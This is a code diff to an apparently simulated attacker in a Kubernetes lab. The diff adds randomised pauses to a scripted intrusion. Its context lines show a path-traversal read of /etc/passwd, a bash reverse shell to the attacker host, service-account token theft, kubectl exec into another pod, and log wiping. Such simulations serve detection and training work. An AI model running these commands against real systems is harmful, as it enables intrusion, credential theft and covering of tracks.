@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import asyncio
+
 from ekslab.http import HttpRequest, HttpResponse
 from ekslab.node import Process, elf
 from ekslab.node.sockets import Socket
@@ -26,6 +28,7 @@ class Intruder:
         self.cluster: Cluster = work.cluster
         self.blog: Pod = work.blog[1]
         self.second: Pod = work.sync[1]
+        self._pace = self.cluster.numbers("intruder")
         self.cluster.network.serve(HOST, _tools, ip=HOST, port=80)
         self.cluster.network.listen(HOST, 443, _tools)
 
@@ -37,6 +40,9 @@ class Intruder:
         await self._bring_tools()
         await self._shell()
 
+    async def _pause(self, seconds: float) -> None:
+        await asyncio.sleep(seconds * self._pace.uniform(0.8, 1.25))
+
     async def _find_the_hole(self) -> None:
         for file, pause in (("passwd", 52), ("apache2/envvars", 140)):
 
@@ -44,12 +50,12 @@ class Intruder:
                 p.close(p.open(f"/var/www/html/wp-content/plugins/slide-show/img/../../../../../../../etc/{file}"))
 
             await self.blog.do(show, 2)
-            await self.cluster.pause(pause)
+            await self._pause(pause)
 
     async def _php(self, command: str, pause: float, worker: int = 2) -> None:
         """A request that has the web server run a command."""
         await self.blog.run("sh", "-c", command, worker=worker)
-        await self.cluster.pause(pause)
+        await self._pause(pause)
 
     async def _look_around(self) -> None:
         await self._php("id", 24)
@@ -69,7 +75,7 @@ class Intruder:
 
     async def _shell(self) -> None:
         self.cluster.begin(self._php(f"bash -c 'bash -i >& /dev/tcp/{HOST}/443 0>&1'", 0, worker=3))
-        await self.cluster.pause(20)
+        await self._pause(20)
         api = f"curl -sk https://{API_SERVER}"
         token = f"-H @{FOLDER}/h"
         await self._type("id; ls -la /var/run/secrets/kubernetes.io/serviceaccount", 70)
@@ -82,7 +88,7 @@ class Intruder:
         await self._type(f"{FOLDER}/kc -n platform exec -it {self.second.name} -- sh", 4)
         await self._second_pod()
         images.ended.set()
-        await self.cluster.pause(90)
+        await self._pause(90)
         await self._type(f"shred -u {FOLDER}/kc", 35)
         await self._type(": > /var/log/php_errors.log", 60)
         await self._type("exit", 1)
@@ -95,7 +101,7 @@ class Intruder:
         assert isinstance(connection, Socket)
         connection._received.extend(f"{line}\n".encode())
         connection._wake.set()
-        await self.cluster.pause(pause)
+        await self._pause(pause)
 
     async def _second_pod(self) -> None:
         api = f"curl -sk https://{API_SERVER}"
